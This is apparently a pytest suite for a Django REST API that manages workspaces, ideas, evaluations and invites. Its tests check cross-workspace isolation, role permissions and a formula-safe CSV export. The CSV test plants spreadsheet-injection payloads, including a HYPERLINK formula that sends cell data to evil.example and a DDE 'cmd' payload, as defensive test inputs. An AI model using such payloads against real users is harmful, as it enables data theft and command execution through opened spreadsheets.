"""The project-canvas REST API, above all its permissions: a member of workspace A never sees or
changes workspace B's ideas (404, never 403); a viewer cannot write (403); invites by link."""

import csv
import io

import pytest
from rest_framework.authtoken.models import Token

from projects import services
from projects.models import Evaluation, Idea, Membership, Role
from tests.projects.conftest import FULL_SCORES, make_user

pytestmark = [pytest.mark.django_db, pytest.mark.embedded]


def as_user(client, user):
    client.force_login(user)
    return client


def post(client, url, data=None, **extra):
    return client.post(url, data or {}, content_type="application/json", **extra)


def patch(client, url, data, **extra):
    return client.patch(url, data, content_type="application/json", **extra)


def put(client, url, data, **extra):
    return client.put(url, data, content_type="application/json", **extra)


def error(response) -> dict:
    return response.json()["error"]


# --- the login and the shape ------------------------------------------------------------------------


def test_the_api_needs_a_login(client, idea):
    response = client.get("/api/projects/workspaces/", HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 401
    assert error(response)["code"] == "not_authenticated"
    assert client.get(f"/api/projects/ideas/{idea.id}/").status_code == 401


def test_token_auth_works_for_scripts(client, owner, workspace):
    token = Token.objects.create(user=owner)
    response = client.get("/api/projects/workspaces/", HTTP_AUTHORIZATION=f"Token {token.key}")
    assert response.status_code == 200
    assert [w["id"] for w in response.json()] == [workspace.id]


def test_create_a_workspace_and_become_its_owner(client, outsider):
    response = post(as_user(client, outsider), "/api/projects/workspaces/", {"name": "Workshop", "kind": "workshop"})
    assert response.status_code == 201, response.json()
    body = response.json()
    assert (body["name"], body["kind"], body["my_role"], body["member_count"]) == ("Workshop", "workshop", "owner", 1)
    bad = post(client, "/api/projects/workspaces/", {"name": "", "kind": "club"}, HTTP_ACCEPT_LANGUAGE="en")
    assert bad.status_code == 400
    assert set(error(bad)["fields"]) == {"name", "kind"}


def test_criteria_are_described_in_the_callers_language(client, owner):
    ko = as_user(client, owner).get("/api/projects/criteria/", HTTP_ACCEPT_LANGUAGE="ko").json()
    en = client.get("/api/projects/criteria/", HTTP_ACCEPT_LANGUAGE="en").json()
    assert [c["key"] for c in en][:2] == ["one_second_task", "clear_a_to_b"]
    assert en[0]["label"] == "One-second task"
    assert {c["direction"] for c in en if c["key"] in ("ethical_risk", "error_cost", "engineering_effort")} == {-1}
    assert len(ko) == len(en)


# --- another workspace's ideas are a 404 ----------------------------------------------------------


def test_a_member_of_a_never_sees_or_changes_the_ideas_of_b(client, evaluator, other_workspace, other_idea):
    api = as_user(client, evaluator)
    ws, idea = other_workspace.id, other_idea.id
    listed = api.get("/api/projects/workspaces/").json()
    assert ws not in [w["id"] for w in listed]
    calls = [
        api.get(f"/api/projects/workspaces/{ws}/"),
        patch(api, f"/api/projects/workspaces/{ws}/", {"name": "mine"}),
        api.delete(f"/api/projects/workspaces/{ws}/"),
        api.get(f"/api/projects/workspaces/{ws}/ideas/"),
        post(api, f"/api/projects/workspaces/{ws}/ideas/", {"title": "planted"}),
        api.get(f"/api/projects/workspaces/{ws}/ranking/"),
        api.get(f"/api/projects/workspaces/{ws}/ranking.csv"),
        api.get(f"/api/projects/workspaces/{ws}/weights/"),
        put(api, f"/api/projects/workspaces/{ws}/weights/", {"weights": {"frequency": 3}}),
        api.get(f"/api/projects/workspaces/{ws}/members/"),
        api.get(f"/api/projects/workspaces/{ws}/invites/"),
        post(api, f"/api/projects/workspaces/{ws}/invites/", {"role": "evaluator"}),
        api.get(f"/api/projects/ideas/{idea}/"),
        patch(api, f"/api/projects/ideas/{idea}/", {"title": "changed"}),
        api.delete(f"/api/projects/ideas/{idea}/"),
        api.get(f"/api/projects/ideas/{idea}/evaluation/"),
        put(api, f"/api/projects/ideas/{idea}/evaluation/", {"scores": FULL_SCORES}),
        api.delete(f"/api/projects/ideas/{idea}/evaluation/"),
    ]
    assert [c.status_code for c in calls] == [404] * len(calls)
    assert all(error(c)["code"] == "not_found" for c in calls)
    other_idea.refresh_from_db()
    assert other_idea.title == "Secret idea of B"
    assert not Evaluation.objects.exists()
    assert Idea.objects.filter(workspace=other_workspace).count() == 1


def test_the_ranking_of_a_workspace_holds_only_its_own_ideas(client, evaluator, idea, other_idea):
    body = as_user(client, evaluator).get(f"/api/projects/workspaces/{idea.workspace_id}/ranking/").json()
    assert [row["idea"]["id"] for row in body] == [idea.id]


# --- a viewer reads; a 403 for writes ----------------------------------------------------------------


def test_a_viewer_reads_but_cannot_write(client, viewer, workspace, idea):
    api = as_user(client, viewer)
    assert api.get(f"/api/projects/ideas/{idea.id}/").status_code == 200
    assert api.get(f"/api/projects/workspaces/{workspace.id}/ranking/").status_code == 200
    assert api.get(f"/api/projects/workspaces/{workspace.id}/ranking.csv").status_code == 200
    writes = [
        post(api, f"/api/projects/workspaces/{workspace.id}/ideas/", {"title": "x"}),
        patch(api, f"/api/projects/ideas/{idea.id}/", {"title": "x"}),
        api.delete(f"/api/projects/ideas/{idea.id}/"),
        put(api, f"/api/projects/ideas/{idea.id}/evaluation/", {"scores": FULL_SCORES}),
    ]
    assert [w.status_code for w in writes] == [403] * 4
    assert {error(w)["code"] for w in writes} == {"not_allowed"}
    owner_only = [
        patch(api, f"/api/projects/workspaces/{workspace.id}/", {"name": "x"}),
        put(api, f"/api/projects/workspaces/{workspace.id}/weights/", {"weights": {"frequency": 3}}),
        api.get(f"/api/projects/workspaces/{workspace.id}/invites/"),
        post(api, f"/api/projects/workspaces/{workspace.id}/invites/", {"role": "viewer"}),
    ]
    assert [w.status_code for w in owner_only] == [403] * 4
    assert {error(w)["code"] for w in owner_only} == {"owner_only"}
    idea.refresh_from_db()
    assert idea.title == "Route customer calls"


# --- ideas and evaluations -----------------------------------------------------------------------------


def test_an_evaluator_puts_an_idea_on_the_canvas_and_scores_it(client, evaluator, workspace):
    api = as_user(client, evaluator)
    created = post(
        api,
        f"/api/projects/workspaces/{workspace.id}/ideas/",
        {
            "title": "Phone defect inspection",
            "input_a": "photo of a phone",
            "output_b": "defect or not",
            "value_drivers": ["quality", "lower_cost"],
            "one_second_test": "yes",
            "examples_on_hand": 12000,
            "performance_target": 0.99,
        },
    )
    assert created.status_code == 201, created.json()
    idea = created.json()
    assert idea["submitted_by"] == "evaluator"
    assert idea["value_drivers"] == ["lower_cost", "quality"]
    assert idea["score"]["evaluations"] == 0
    assert idea["score"]["recommendations"][0]["code"] == "score_it"
    assert api.get(f"/api/projects/ideas/{idea['id']}/evaluation/").status_code == 404

    scored = put(api, f"/api/projects/ideas/{idea['id']}/evaluation/", {"scores": FULL_SCORES, "comment": "clear"})
    assert scored.status_code == 200, scored.json()
    assert scored.json()["scores"] == FULL_SCORES
    assert api.get(f"/api/projects/ideas/{idea['id']}/evaluation/").json()["comment"] == "clear"

    detail = api.get(f"/api/projects/ideas/{idea['id']}/", HTTP_ACCEPT_LANGUAGE="en").json()
    score = detail["score"]
    assert score["evaluations"] == 1
    assert score["quadrant"] == "do_now"
    assert score["quadrant_label"] == "Do now"
    assert 50 <= score["feasibility"]["mean"] <= 100
    assert score["feasibility"]["spread"] == 0
    assert score["reasons"][0]["criterion"] == "one_second_task"
    assert score["reasons"][0]["label"] == "One-second task"
    assert {r["code"] for r in score["recommendations"]} >= {"start_pilot", "ask_another_evaluator"}
    assert all(r["text"] for r in score["recommendations"])

    changed = patch(api, f"/api/projects/ideas/{idea['id']}/", {"output_b": "scratch / dent / fine"})
    assert changed.json()["output_b"] == "scratch / dent / fine"
    assert changed.json()["title"] == "Phone defect inspection"
    assert api.delete(f"/api/projects/ideas/{idea['id']}/evaluation/").status_code == 204
    assert api.delete(f"/api/projects/ideas/{idea['id']}/").status_code == 204
    assert not Idea.objects.filter(id=idea["id"]).exists()


@pytest.mark.parametrize(
    "scores",
    [{"frequency": 6}, {"frequency": 0}, {"nope": 3}, {}, {"frequency": "high"}],
)
def test_bad_scores_are_a_400_with_a_message(client, evaluator, idea, scores):
    response = put(
        as_user(client, evaluator),
        f"/api/projects/ideas/{idea.id}/evaluation/",
        {"scores": scores},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert response.status_code == 400
    assert error(response)["code"] in ("invalid", "invalid_scores")
    assert error(response)["message"]


def test_bad_idea_fields_are_a_400(client, evaluator, workspace):
    api = as_user(client, evaluator)
    response = post(
        api,
        f"/api/projects/workspaces/{workspace.id}/ideas/",
        {"title": "x", "value_drivers": ["world_peace"], "performance_target": 2, "one_second_test": "maybe"},
    )
    assert response.status_code == 400
    assert set(error(response)["fields"]) == {"value_drivers", "performance_target", "one_second_test"}


def test_two_evaluators_disagree_and_the_ranking_says_so(client, owner, evaluator, workspace, idea):
    services.evaluation_upsert(idea=idea, user=owner, scores=FULL_SCORES)
    services.evaluation_upsert(
        idea=idea, user=evaluator, scores={**FULL_SCORES, "business_impact": 1, "pain_severity": 1, "frequency": 1}
    )
    api = as_user(client, owner)
    body = api.get(f"/api/projects/workspaces/{workspace.id}/ranking/", HTTP_ACCEPT_LANGUAGE="en").json()
    score = body[0]["idea"]["score"]
    assert body[0]["rank"] == 1
    assert score["flagged"] is True
    assert "value" in [d["key"] for d in score["disagreements"]]
    assert score["recommendations"][0]["code"] == "discuss_disagreement"
    assert "Business value" in score["recommendations"][0]["text"]
    flagged = api.get(f"/api/projects/workspaces/{workspace.id}/ranking/?flagged=1").json()
    assert len(flagged) == 1
    assert api.get(f"/api/projects/workspaces/{workspace.id}/ranking/?quadrant=drop").json() == []


def test_weights_round_trip(client, owner, workspace):
    api = as_user(client, owner)
    url = f"/api/projects/workspaces/{workspace.id}/weights/"
    before = {c["key"]: c["weight"] for c in api.get(url).json()}
    assert before["one_second_task"] == 2.0
    saved = put(api, url, {"weights": {"frequency": 4.5}})
    assert saved.status_code == 200
    assert {c["key"]: c["weight"] for c in saved.json()}["frequency"] == 4.5
    bad = put(api, url, {"weights": {"frequency": 11}}, HTTP_ACCEPT_LANGUAGE="en")
    assert bad.status_code == 400
    zero = put(
        api,
        url,
        {"weights": dict.fromkeys(["business_impact", "pain_severity", "frequency", "strategic_fit", "error_cost"], 0)},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    assert zero.status_code == 400
    assert error(zero)["code"] == "invalid_weights"
    assert "Business value" in error(zero)["message"]


# --- members and invites ---------------------------------------------------------------------------


def test_invite_join_flow(client, owner, workspace):
    api = as_user(client, owner)
    link = post(api, f"/api/projects/workspaces/{workspace.id}/invites/", {"role": "evaluator"}).json()
    assert link["url"].endswith(f"/projects/join/{link['token']}/")
    newcomer = make_user("newcomer")
    client.force_login(newcomer)
    assert client.get(f"/api/projects/workspaces/{workspace.id}/").status_code == 404
    joined = post(client, f"/api/projects/invites/{link['token']}/accept/")
    assert joined.status_code == 200, joined.json()
    assert joined.json()["my_role"] == "evaluator"
    assert client.get(f"/api/projects/workspaces/{workspace.id}/").status_code == 200

    client.force_login(owner)
    rotated = post(client, f"/api/projects/workspaces/{workspace.id}/invites/", {"role": "evaluator"}).json()
    assert rotated["token"] != link["token"]
    late = make_user("late")
    client.force_login(late)
    dead = post(client, f"/api/projects/invites/{link['token']}/accept/", HTTP_ACCEPT_LANGUAGE="en")
    assert dead.status_code == 404
    assert error(dead)["code"] == "invite_invalid"


def test_owners_manage_members_and_the_last_owner_stays(client, owner, evaluator, workspace):
    api = as_user(client, owner)
    members = api.get(f"/api/projects/workspaces/{workspace.id}/members/").json()
    by_name = {m["username"]: m for m in members}
    assert by_name["owner"]["role"] == "owner"
    mine, theirs = by_name["owner"]["id"], by_name["evaluator"]["id"]
    last = patch(api, f"/api/projects/workspaces/{workspace.id}/members/{mine}/", {"role": "viewer"})
    assert last.status_code == 409
    assert error(last)["code"] == "last_owner"
    assert api.delete(f"/api/projects/workspaces/{workspace.id}/members/{mine}/").status_code == 409
    changed = patch(api, f"/api/projects/workspaces/{workspace.id}/members/{theirs}/", {"role": "viewer"})
    assert changed.json()["role"] == "viewer"
    assert api.delete(f"/api/projects/workspaces/{workspace.id}/members/{theirs}/").status_code == 204
    assert not Membership.objects.filter(workspace=workspace, user=evaluator).exists()
    assert api.delete(f"/api/projects/workspaces/{workspace.id}/members/999999/").status_code == 404


def test_an_evaluator_cannot_manage_members(client, evaluator, viewer, workspace):
    api = as_user(client, evaluator)
    theirs = Membership.objects.get(workspace=workspace, user=viewer).id
    response = patch(api, f"/api/projects/workspaces/{workspace.id}/members/{theirs}/", {"role": "owner"})
    assert response.status_code == 403
    assert Membership.objects.get(id=theirs).role == Role.VIEWER


def test_link_a_room_through_the_api(client, owner, workspace):
    from quizapp.live.rooms import room_create

    room_create(owner=owner, code="WORKSHOP")
    api = as_user(client, owner)
    linked = patch(api, f"/api/projects/workspaces/{workspace.id}/", {"room_code": "workshop"})
    assert linked.json()["room_code"] == "WORKSHOP"
    missing = patch(api, f"/api/projects/workspaces/{workspace.id}/", {"room_code": "NOPE42"})
    assert missing.status_code == 400
    assert error(missing)["code"] == "room_not_found"


# --- the CSV export ------------------------------------------------------------------------------------


def test_the_csv_export_is_excel_friendly_and_formula_safe(client, owner, workspace):
    hostile = services.idea_create(
        workspace=workspace,
        user=owner,
        title='=HYPERLINK("http://evil.example/?"&A1,"click")',
        input_a="+cmd|' /C calc'!A0",
        output_b="@SUM(1+1)",
        users="-2+3",
        pain_point="\t=1+1",
    )
    services.evaluation_upsert(idea=hostile, user=owner, scores=FULL_SCORES)
    response = as_user(client, owner).get(
        f"/api/projects/workspaces/{workspace.id}/ranking.csv", HTTP_ACCEPT_LANGUAGE="ko"
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith('attachment; filename="a2blab-ideas-')
    raw = response.content
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    header, row = rows[0], rows[1]
    cells = dict(zip(header, row, strict=True))
    risky = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert row[1].startswith("'=HYPERLINK")
    assert row[0] == "1"
    assert float(row[3]) > 50  # numbers stay numbers
    assert len(cells) == len(header)


def test_csv_headers_follow_the_language(client, owner, workspace, idea):
    api = as_user(client, owner)
    en = api.get(f"/api/projects/workspaces/{workspace.id}/ranking.csv", HTTP_ACCEPT_LANGUAGE="en")
    header = next(csv.reader(io.StringIO(en.content.decode("utf-8-sig"))))
    assert header[:3] == ["Rank", "Title", "Quadrant"]


def test_the_openapi_schema_includes_the_canvas(client):
    schema = client.get("/api/schema/", HTTP_ACCEPT="application/vnd.oai.openapi+json")
    assert schema.status_code == 200
    paths = schema.json()["paths"]
    assert "/api/projects/workspaces/{workspace_id}/ranking/" in paths
    assert "/api/projects/ideas/{idea_id}/evaluation/" in paths
